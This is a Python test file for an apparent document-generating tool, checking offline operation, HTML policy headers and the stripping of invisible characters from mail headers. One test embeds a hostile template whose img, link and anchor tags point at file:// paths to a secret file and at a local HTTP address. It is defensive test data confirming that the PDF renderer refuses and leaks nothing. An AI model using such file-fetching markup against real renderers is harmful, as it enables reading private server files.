    @pytest.mark.parametrize("document", list(registry.DOCUMENTS))
    def test_every_page_and_draft_carries_the_policy(self, profile: Profile, document: str) -> None:
        from breakup.safehtml import POLICY_META

        out = publish(document, "diva", "html", profile=profile, lang="en", today=TODAY)
        head = out.data.decode("utf-8").split("<head>", 1)[1]
        assert head.startswith(f'\n<meta charset="utf-8">\n{POLICY_META}\n')
        if registry.FORMATS["eml"].allows(document) and document != "heads-up":
            draft = publish(document, "diva", "eml", profile=profile, lang="en", today=TODAY)
            message = email.message_from_bytes(draft.data, policy=email.policy.default)
            part = message.get_body(("html",))
            assert part is not None and POLICY_META in part.get_content()


class TestOffline:
    """No command opens a network connection."""

    def test_no_connection_is_attempted(
        self, runner: CliRunner, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
    ) -> None:
        def refuse(*args: Any, **kwargs: Any) -> None:
            raise AssertionError("a network connection was attempted")

        monkeypatch.setattr(socket.socket, "connect", refuse)
        monkeypatch.setattr(socket, "create_connection", refuse)
        monkeypatch.setattr(socket, "getaddrinfo", refuse)
        for args in (["kit", "late-payer", "-o", "k", *PROFILE], ["email", "diva", "-f", "eml"],
                     ["notes", "diva", "-f", "ics"], ["archetypes"]):  # fmt: skip
            result = runner.invoke(cli, args)
            assert result.exit_code == 0, result.output

    def test_a_pdf_fetches_nothing(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        pytest.importorskip("weasyprint")
        secret = tmp_path / "secret.txt"
        secret.write_text("TOP SECRET FILE", encoding="utf-8")
        page = (
            f'<img src="http://127.0.0.1:9/x.png"><img src="file://{secret}">'
            f'<a rel="attachment" href="file://{secret}">x</a>'
            f'<link rel="stylesheet" href="file://{secret}">'
        )
        root = overlay(tmp_path, {"documents/notes.j2": page})
        fetched: list[str] = []

        def refuse(*args: Any, **kwargs: Any) -> None:
            fetched.append(str(args))
            raise AssertionError("network")

        monkeypatch.setattr(socket.socket, "connect", refuse)
        with pytest.raises(TemplateError, match="could run or fetch"):  # refused first...
            publish("notes", "diva", "pdf", lang="en", templates=root, today=TODAY)
        from breakup import safehtml
        from breakup.pdf import html_to_pdf

        # ...and were it let through, the PDF still fetches nothing.
        monkeypatch.setattr(safehtml, "check_page", lambda page, what: page)
        out = publish("notes", "diva", "pdf", lang="en", templates=root, today=TODAY)
        assert out.data.startswith(b"%PDF") and b"TOP SECRET" not in out.data and not fetched
        assert html_to_pdf(page).startswith(b"%PDF") and not fetched


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(value=st.text(min_size=1, max_size=80))
def test_any_client_name_renders_or_is_refused_cleanly(value: str) -> None:
    try:
        facts = ClientFacts(client=value, contact=value, end_date=date(2027, 1, 15))
        for fmt in ("text", "md", "html"):
            body = render("email", "shouter", facts=facts, lang="es", fmt=fmt, today=TODAY).body
            assert "{{" not in body or "{{" in value
    except (InputError, OutputError, TemplateError):
        pass


def test_invisible_characters_leave_the_mail_headers_too() -> None:
    """A red-team finding: the bodies lost invisible characters, the From:/To: names kept
    them."""
    import email
    from email import policy

    from breakup.models import ClientFacts, Profile, Sender
    from breakup.publish import publish

    sender = Sender(name="Priya\u200bNair", email="priya@example.com")
    facts = ClientFacts(client="Acme", contact="Dan\u00adiel Re\u2060yes\ufeff",
                        client_email="dan@example.com")  # fmt: skip
    data = publish("email", "diva", "eml", profile=Profile(sender=sender), facts=facts).data
    message = email.message_from_bytes(data, policy=policy.default)
    for field in ("From", "To"):
        assert not any(c in str(message[field]) for c in "\u200b\u00ad\u2060\ufeff\u200d")
    assert str(message["To"]).startswith("Daniel Reyes")
